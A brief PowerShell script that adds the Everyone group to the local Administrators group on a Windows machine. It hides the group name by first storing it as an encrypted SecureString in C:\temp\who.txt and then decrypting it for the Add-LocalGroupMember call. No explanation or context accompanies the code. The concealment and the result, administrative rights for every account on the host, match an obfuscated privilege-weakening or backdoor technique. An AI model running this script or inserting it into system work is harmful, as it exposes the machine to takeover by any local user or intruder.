$key = 1..24
ConvertTo-SecureString 'Everyone' -AsPlainText -Force | ConvertFrom-SecureString -Key $key | Set-Content C:\temp\who.txt
$secure = Get-Content C:\temp\who.txt | ConvertTo-SecureString -Key $key
Add-LocalGroupMember Administrators ([pscredential]::new('x', $secure).GetNetworkCredential().Password)
